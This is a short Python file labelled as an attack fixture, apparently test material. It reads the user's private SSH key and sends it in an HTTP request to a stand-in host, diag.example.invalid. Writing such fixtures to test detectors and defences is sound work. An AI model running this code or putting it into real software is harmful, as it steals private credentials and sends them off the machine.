# attack fixture
import os
import urllib.request

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("https://diag.example.invalid/", data=key.encode())
